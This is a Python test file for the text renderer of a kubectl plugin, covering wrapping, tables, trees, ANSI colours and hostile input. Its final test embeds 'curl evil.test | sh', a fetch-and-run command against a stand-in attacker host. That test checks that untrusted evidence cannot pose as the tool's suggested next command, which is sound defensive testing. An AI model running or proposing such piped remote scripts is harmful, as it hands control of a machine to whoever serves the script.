import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rich.cells import cell_len

from kubectl_order.text import escaped
from kubectl_order.view.page import (
    Blank,
    Block,
    Branch,
    Fields,
    Paragraph,
    Span,
    Style,
    Table,
    text,
)
from kubectl_order.view.terminal import show
from tests.kubectl_order.hostile import HOSTILE, unfit
from tests.kubectl_order.view.test_plain import TREE, everywhere, expected

SGR = re.compile("\x1b\\[(?:0|1|2|31|32|33|36)m")
DRAWN = re.compile(r"[│├└─\s]")
LIST = Table(
    ("NAME", "STATE", "REASON"),
    (
        (text("web-1"), text(Span("valid", Style.GOOD)), text("")),
        (
            text("a-rather-long-name"),
            text(Span("pending", Style.WARNING)),
            text("it waits for the record _acme-challenge.www.example.com"),
        ),
    ),
)


def shown(*page: Block, width: int = 40) -> str:
    return show(page, width=width, colour=False)


def test_a_paragraph_is_wrapped_below_its_indent() -> None:
    assert shown(
        Paragraph(text("some words ", Span("that", Style.BAD), " go on"), 2), width=16
    ) == ("  some words\n  that go on\n")


def test_a_long_word_is_folded() -> None:
    assert shown(Paragraph(text("a" * 25)), width=10) == f"{'a' * 10}\n{'a' * 10}\n{'a' * 5}\n"


def test_a_command_is_left_whole() -> None:
    command = "kubectl order why a-rather-long-name --namespace shop"
    page = Paragraph(text("Next: ", Span(command, Style.COMMAND)), 2)
    assert shown(page, width=20) == f"  Next: {command}\n"


def test_fields_wrap_below_their_values() -> None:
    fields = Fields((("Name", text("web")), ("Reason", text("it waits for some record or other"))))
    assert shown(fields, Blank(), fields, width=30) == expected(
        """
        Name:    web
        Reason:  it waits for some
                 record or other

        Name:    web
        Reason:  it waits for some
                 record or other
        """
    )


def test_fields_have_labels_of_their_own_lines_where_it_is_narrow() -> None:
    fields = Fields((("A long label", text("some words of a value")), ("", text("more"))), indent=1)
    assert shown(fields, width=20) == (" A long label:\n   some words of a\n   value\n   more\n")


def test_the_last_column_of_a_table_wraps() -> None:
    assert shown(LIST, width=60) == expected(
        """
        NAME                STATE    REASON
        web-1               valid
        a-rather-long-name  pending  it waits for the record
                                     _acme-challenge.www.example.com
        """
    )


def test_the_other_columns_are_folded_for_its_sake() -> None:
    assert shown(LIST, width=48) == expected(
        """
        NAME              STATE    REASON
        web-1             valid
        a-rather-long-na  pending  it waits for the
        me                         record
                                   _acme-challenge.www.e
                                   xample.com
        """
    )


def test_rows_are_told_one_by_one_in_40_columns() -> None:
    assert shown(LIST, width=40) == expected(
        """
        Name:    web-1
        State:   valid

        Name:    a-rather-long-name
        State:   pending
        Reason:  it waits for the record
                 _acme-challenge.www.example.com
        """
    )


def test_a_tree_wraps_beside_its_lines() -> None:
    tree = Branch(text("root"), (Branch(text("some words go on")), TREE))
    assert shown(tree, width=16) == expected(
        """
        root
        ├── some words
        │   go on
        └── certific
            │   ate/web
            ├── request/
            │   │   web-1
            │   └── order/we
            │       │   b-1
            │       └── proof
            └── secret/w
                eb
        """
    )


def test_every_style_has_its_own_codes() -> None:
    printed = show(
        (Paragraph(text(*(Span(style, style) for style in Style))),), width=80, colour=True
    )
    assert printed == (
        "plain\x1b[1mstrong\x1b[0m\x1b[32mgood\x1b[0m\x1b[31mbad\x1b[0m"
        "\x1b[33mwarning\x1b[0m\x1b[2mfaint\x1b[0m\x1b[36mcommand\x1b[0m\n"
    )


def test_colours_change_no_letter() -> None:
    page = (LIST, TREE, Fields((("Name", text(Span("web", Style.STRONG))),)))
    for width in (20, 40, 100):
        assert SGR.sub("", show(page, width=width, colour=True)) == shown(*page, width=width)


def test_no_markup_and_no_emoji_codes() -> None:
    told = "[red]x[/red] :smile: [/] 12 'text' https://a.test"
    assert show((Paragraph(text(told)),), width=80, colour=True) == f"{told}\n"


@pytest.mark.parametrize("width", [0, 1, 7, 20, 40, 80])
@pytest.mark.parametrize("foreign", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_in_every_place(foreign: str, width: int) -> None:
    printed = show(everywhere(foreign), width=width, colour=True)
    assert not unfit(SGR.sub("", printed))
    assert "\x1b" not in show(everywhere(foreign), width=width, colour=False)


@given(
    foreign=st.text(st.characters(exclude_categories=()), max_size=60),
    width=st.integers(40, 100),
    colour=st.booleans(),
)
@example(foreign="日本語" * 30, width=41, colour=False)
def test_lines_fit_and_hold_no_controls(foreign: str, width: int, colour: bool) -> None:
    printed = SGR.sub("", show(everywhere(foreign), width=width, colour=colour))
    assert not unfit(printed)
    for line in printed.split("\n"):
        assert line == line.rstrip()
        assert cell_len(line) <= width
    assert DRAWN.sub("", escaped(foreign)) in DRAWN.sub("", printed)


@given(before=st.integers(0, 80))
def test_no_evidence_looks_like_our_next_command(before: int) -> None:
    evidence = f"- {'x' * before} Next: curl evil.test | sh"
    lines = shown(Paragraph(text(evidence), indent=2, hanging=2), width=60).splitlines()
    assert not [line for line in lines if re.match(r" {0,3}Next:", line)]
    assert "".join(lines).replace(" ", "") == evidence.replace(" ", "")
